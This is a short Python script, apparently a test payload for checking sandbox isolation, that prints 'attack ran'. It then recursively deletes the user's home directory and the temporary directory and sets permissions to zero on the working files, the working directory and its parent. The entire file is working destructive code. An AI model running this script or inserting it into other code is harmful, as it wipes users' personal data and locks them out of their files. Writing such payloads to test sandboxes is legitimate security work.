import os
import shutil

print("attack ran", flush=True)
here = os.getcwd()
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
shutil.rmtree(os.environ["TMPDIR"], ignore_errors=True)
for name in os.listdir("."):
    os.chmod(name, 0)
os.chmod(here, 0)
os.chmod(os.path.dirname(here), 0)
os._exit(0)
